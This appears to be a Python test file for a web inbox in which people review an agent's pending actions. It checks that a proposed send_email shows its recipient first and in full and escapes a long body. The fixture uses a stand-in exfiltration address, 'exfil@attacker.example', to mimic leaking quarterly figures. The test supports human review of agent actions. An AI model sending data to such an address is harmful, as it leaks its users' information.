"""The inbox shows the pending action complete: its title, then where it goes (highlighted, never
folded or shortened), then every other argument in full, on the list and on the run's page; the
decision form carries the hash of exactly that action. Rendered through Starlette's TestClient
with an in-memory stand-in for Temporal (tests/inbox/test_browser.py does it in Chromium)."""

from __future__ import annotations

import html
import re

import pytest
from starlette.testclient import TestClient

from common.settings import Settings
from inbox.app import build_app
from tests.inbox.recording import ACTION, RUN_ID, RecordingRuns
from tests.inbox.test_web_auth import sign_in
from workflows.models import ActionField, ProposedAction

RECIPIENT = "exfil@attacker.example"
BODY = "".join(f"Line {i}: quarterly numbers <attached> & more.\n" for i in range(60))  # 2,800+ chars
SUBJECT = "numbers"


def email(fields_in_this_order: list[ActionField]) -> ProposedAction:
    return ProposedAction(
        kind="tool", name="send_email", title=f"send_email to {RECIPIENT}", fields=fields_in_this_order
    )


BODY_FIRST = email(
    [
        ActionField(name="body", value=BODY),
        ActionField(name="subject", value=SUBJECT),
        ActionField(name="to", value=RECIPIENT, target=True),
    ]
)


def field_names(page: str) -> list[str]:
    return re.findall(r'<dt class="(?:target|argument)" data-field="([^"]+)"', page)


@pytest.fixture
def web(inbox_settings: Settings) -> TestClient:
    client = TestClient(
        build_app(inbox_settings, runs=RecordingRuns(proposed=BODY_FIRST)), follow_redirects=False
    )
    sign_in(client)
    return client


@pytest.mark.parametrize("path", ["/", f"/runs/{RUN_ID}"])
def test_the_recipient_comes_first_and_the_body_is_whole(web: TestClient, path: str) -> None:
    page = web.get(path).text
    assert BODY.count("\n") > 8 and len(BODY) > 2000
    assert f"send_email to {RECIPIENT}" in page
    assert field_names(page) == ["to", "body", "subject"]  # targets first, whatever the order given
    target = re.search(r'<dd class="target" data-field="to">\s*<pre class="value">([^<]*)</pre>', page)
    assert target is not None and target.group(1) == RECIPIENT  # in full, never inside <details>
    assert f'<pre class="value">{html.escape(BODY, quote=False)}</pre>' in page
    assert "<attached>" not in page  # shown as text, escaped
    assert 'name="action_hash" value="h1"' in page


def test_long_values_are_open_on_the_run_page_and_folded_in_the_list(web: TestClient) -> None:
    assert "<details open>" in web.get(f"/runs/{RUN_ID}").text
    listed = web.get("/").text
    assert "<details>" in listed and "<details open>" not in listed
    assert html.escape(BODY, quote=False) in listed  # folded, not dropped


def test_without_a_structured_action_the_text_is_shown(inbox_settings: Settings) -> None:
    web = TestClient(build_app(inbox_settings, runs=RecordingRuns()), follow_redirects=False)
    sign_in(web)
    page = web.get(f"/runs/{RUN_ID}").text
    assert html.escape(ACTION, quote=False) in page and 'data-testid="action"' in page
